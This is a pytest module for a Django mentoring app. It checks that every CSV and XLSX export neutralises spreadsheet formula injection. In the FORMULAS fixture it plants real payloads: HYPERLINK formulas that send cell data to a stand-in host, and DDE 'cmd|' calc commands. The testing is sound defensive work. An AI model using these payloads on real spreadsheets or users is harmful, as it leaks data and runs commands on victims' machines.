"""Every export (each URL or API operation that answers CSV or XLSX) keeps typed-in text from running
as a spreadsheet formula.

The export routes are found, not listed: by sending every GET row of the authorization matrix as a
person it lets in, by every URL pattern that names csv or xlsx, and by every API operation whose
documented answer is a spreadsheet. Each found route must have requests in EXPORT_REQUESTS below,
and each of those requests must show at least one of the planted formulas, neutralised, and no cell
anywhere that a spreadsheet program would run.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.db import transaction
from django.test import Client
from django.urls import reverse

from mentora.core.spreadsheets import EXPORT_CONTENT_TYPES, XLSX_CONTENT_TYPE, looks_like_formula
from tests.trust.matrix import ROLES, Cast, _Rollback, all_rows, api_operations, page_routes

# The attack of the issue, and one formula for each other character a spreadsheet starts a formula with.
FORMULAS = {
    "mentee_a": '=HYPERLINK("http://x/?"&A1,"Priya")',
    "mentee_b": "+HYPERLINK(\"http://x/?\"&A1,\"Ana\")",
    "mentor_a": "-2+3+cmd|' /C calc'!A0",
    "coordinator": "@SUM(1+1)*cmd|' /C calc'!A0",
    "program": '=HYPERLINK("http://x/?"&A2,"Internal Medicine")',
    "question": '=HYPERLINK("http://x/?"&B1,"Communication")',
}


def _insights(c, table: str, fmt: str) -> str:
    return reverse("insights:insights_export", args=[table, fmt]) + f"?program={c.program.pk}"


def _insights_every_table(c) -> list[str]:
    from mentora.core.academic_year import current_academic_year
    from mentora.insights.scope import Scope
    from mentora.insights.selectors import dashboard_panels

    scope = Scope(program_ids=(c.program.pk,), academic_year=current_academic_year(), program=c.program.pk)
    keys = [table.key for panel in dashboard_panels(scope=scope) for table in panel.tables]
    assert "feedback.ratings" in keys
    return [_insights(c, key, fmt) for key in keys for fmt in ("csv", "xlsx")]


def _import_history(c) -> list[str]:
    """The coordinator's import history, after one file was imported into the (formula-named) program."""
    from mentora.dataio.models import ImportBatch
    from mentora.programs.selectors import current_academic_year

    ImportBatch.objects.create(program=c.program, created_by=c["coordinator"], kind=ImportBatch.Kind.MENTEES,
                               academic_year=current_academic_year(), filename="roster.csv", content=b"")
    return [reverse("dataio:import_history") + "?export=csv"]


# route -> (who asks, the URLs to ask for). Every URL must answer a spreadsheet; the route passes when
# no cell of any answer could run and at least one answer shows a planted formula, neutralised.
EXPORT_REQUESTS = {
    "dataio:export_program_csv": ("coordinator", lambda c: [
        reverse("dataio:export_program_csv", args=[c.program.pk]),
        reverse("dataio:export_program_csv", args=[c.program.pk]) + "?table=members",
        reverse("dataio:export_program_csv", args=[c.program.pk]) + "?table=relationships",
    ]),
    "portfolio:portfolio_csv": ("mentor_a", lambda c: [reverse("portfolio:portfolio_csv")]),
    "insights:insights_export": ("coordinator", _insights_every_table),
    "ilps:ilp_compliance": ("coordinator", lambda c: [reverse("ilps:ilp_compliance") + f"?program={c.program.pk}&export=csv"]),
    "rollover:rollover_program": ("coordinator", lambda c: [
        reverse("rollover:rollover_program", args=[c.program.slug]) + "?export=csv",
        reverse("rollover:rollover_program", args=[c.program.slug]) + "?answers-export=csv",
    ]),
    "dataio:import_history": ("coordinator", _import_history),
    "insights:insights_export_all": ("coordinator", lambda c: [reverse("insights:insights_export_all") + f"?program={c.program.pk}"]),
}


@pytest.fixture
def planted(cast):
    """The cast with a formula for a name, a program name and a feedback question."""
    from mentora.meetings.models import SurveyForm, SurveyResponse
    from mentora.relationships.models import Relationship

    for role in ("mentee_a", "mentee_b", "mentor_a", "coordinator"):
        person = cast[role]
        person.full_name = FORMULAS[role]
        person.save(update_fields=["full_name"])
    cast["program"].name = FORMULAS["program"]
    cast["program"].save(update_fields=["name"])
    SurveyForm.objects.create(program=cast["program"], questions=[{"key": "q1", "label": FORMULAS["question"]}])
    relationship = Relationship.objects.get(mentee=cast["mentee_a"], mentor=cast["mentor_a"])
    SurveyResponse.objects.create(relationship=relationship, respondent=cast["mentee_a"], role="mentee",
                                  period="2026-1", program=cast["program"], ratings={"q1": 6})
    return Cast(cast)


def _cells(response) -> list[tuple[str, object, str]]:
    """(where, value, xlsx data type or "") of every cell of a CSV or XLSX answer."""
    body = b"".join(response) if getattr(response, "streaming", False) else response.content
    if response["Content-Type"].startswith(XLSX_CONTENT_TYPE):
        from openpyxl import load_workbook

        book = load_workbook(io.BytesIO(body))
        return [(f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type)
                for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    text = body.decode("utf-8-sig")
    return [(f"row {r + 1} column {k + 1}", value, "")
            for r, row in enumerate(csv.reader(io.StringIO(text))) for k, value in enumerate(row)]


def _is_export(response) -> bool:
    return response.status_code == 200 and response.get("Content-Type", "").startswith(EXPORT_CONTENT_TYPES)


def _exports_answered_by_matrix_rows(cast) -> set[str]:
    """Routes whose GET row answers a spreadsheet to a person the row lets in."""
    found = set()
    for row in all_rows():
        if row.method != "GET":
            continue
        allowed = [role for role, token in zip(ROLES, row.tokens, strict=True) if token.startswith("200")]
        for role in allowed[:1]:
            client = Client(raise_request_exception=False)
            if role != "anonymous":
                client.force_login(cast[role])
            try:
                with transaction.atomic():
                    if _is_export(client.get(row.url(cast), data=row.data(cast) if callable(row.data) else row.data)):
                        found.add(row.route)
                    raise _Rollback
            except _Rollback:
                pass
            for person in cast.values():
                if hasattr(person, "_mentora_roles"):
                    del person._mentora_roles
    return found


def test_every_export_route_has_its_requests_here(planted):
    by_pattern = {route.key for route in page_routes() if re.search(r"csv|xlsx", route.pattern, re.IGNORECASE)}
    from mentora.config.api import api

    schema = api.get_openapi_schema()
    by_api = {
        f"{method.upper()} {path}"
        for path, methods in schema["paths"].items() for method, operation in methods.items()
        if any(kind.startswith(EXPORT_CONTENT_TYPES)
               for answer in operation.get("responses", {}).values() for kind in answer.get("content", {}))
    }
    assert by_api <= set(api_operations())
    by_rows = _exports_answered_by_matrix_rows(planted)
    found = by_pattern | by_api | by_rows
    assert {"dataio:export_program_csv", "portfolio:portfolio_csv"} <= by_rows, "the matrix rows no longer reach the known exports"
    missing = found - set(EXPORT_REQUESTS)
    assert not missing, f"export routes without requests in EXPORT_REQUESTS: {sorted(missing)}"
    stale = set(EXPORT_REQUESTS) - found
    assert not stale, f"EXPORT_REQUESTS names routes that export nothing: {sorted(stale)}"


@pytest.mark.parametrize("route", sorted(EXPORT_REQUESTS))
def test_no_export_cell_can_run_as_a_formula(planted, route):
    role, urls = EXPORT_REQUESTS[route]
    client = Client()
    client.force_login(planted[role])
    neutralised = set()
    planted_texts = set(FORMULAS.values())
    for url in urls(planted):
        response = client.get(url)
        assert _is_export(response), f"{url} answered {response.status_code} {response.get('Content-Type')}"
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Content-Disposition"].startswith("attachment;")
        for where, value, data_type in _cells(response):
            assert data_type != "f", f"{url} {where} is a formula: {value!r}"
            assert not looks_like_formula(value), f"{url} {where} would run: {value!r}"
            if isinstance(value, str):
                neutralised |= {text for text in planted_texts if f"'{text}" in value}
    assert neutralised, f"{route}: no planted formula reached the export, so the check proves nothing"
